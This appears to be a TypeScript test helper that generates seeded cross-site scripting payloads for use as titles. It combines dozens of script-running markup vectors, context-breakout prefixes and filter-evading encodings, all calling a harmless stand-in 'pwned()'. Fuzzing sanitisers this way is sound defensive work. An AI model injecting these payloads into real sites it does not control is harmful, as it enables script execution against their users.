/**
 * Titles that would run as script where they were read as markup. Each says `pwned()` in another way: known shapes of
 * elements and handlers, in the contexts that a text can break out of, in the spellings that filters overlook.
 */
const calls = ['pwned()', 'pwned``', 'top.pwned()', "self['pwn'+'ed']()", 'setTimeout(pwned)', '(0,pwned)()'];

const vectors: readonly ((call: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<img src=x onerror=${call}>`,
  (call) => `<img/src/onerror=${call}//`,
  (call) => `<svg onload=${call}>`,
  (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call) => `<svg><script href="data:text/javascript,${call}"/>`,
  (call) => `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`,
  (call) => `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  (call) => `<iframe src="javascript:parent.${call}"></iframe>`,
  (call) => `<body onload=${call}>`,
  (call) => `<details open ontoggle=${call}>x</details>`,
  (call) => `<input autofocus onfocus=${call}>`,
  (call) => `<video><source onerror=${call}></video>`,
  (call) => `<audio src=x onerror=${call}>`,
  (call) => `<object data="javascript:${call}"></object>`,
  (call) => `<embed src="data:text/html,<script>${call}</script>">`,
  (call) => `<a href="javascript:${call}">open</a>`,
  (call) => `<form action="javascript:${call}"><button>go</button></form>`,
  (call) => `<base href="javascript:/${call}/">`,
  (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
  (call) => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${call})}">`,
  (call) => `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=${call}>`,
  (call) => `<template><script>${call}</script></template>`,
  (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call) => `<marquee onstart=${call}>`,
  (call) => `javascript:${call}`,
  (call) => `data:text/html,<script>${call}</script>`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `[[${call}]](javascript:${call})`,
];
/** What stands before it: the end of the context that it may be put into. */
const openings = [
  '',
  '">',
  "'>",
  '-->',
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  ']]>',
  '`}',
  '\\";',
  '</svg></math>',
];

const spellings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) =>
    text
      .replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter : letter.toUpperCase()))
      .replace(/pwned/gi, 'pwned'),
  (text) => text.replaceAll(' on', '\u000con').replaceAll(' src', '\tsrc'),
  (text) => text.replaceAll('<', '\u003c\u0000'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replace(/pwned\(/g, '&#112;wned&#40;'),
  (text) => `\u202e${text}\u2066`,
  (text) => encodeURIComponent(text),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
];

/** So many different ones, the same for the same seed. */
export function payloads(count: number, seed: number): string[] {
  const found = new Set<string>();
  for (let at = seed; found.size < count; at++) {
    const pick = <T>(list: readonly T[], by: number): T =>
      list[(at * by + Math.floor(at / list.length)) % list.length] as T;
    const text = pick(spellings, 5)(pick(openings, 7) + pick(vectors, 1)(pick(calls, 11)));
    found.add(text.slice(0, 490));
  }
  return [...found];
}
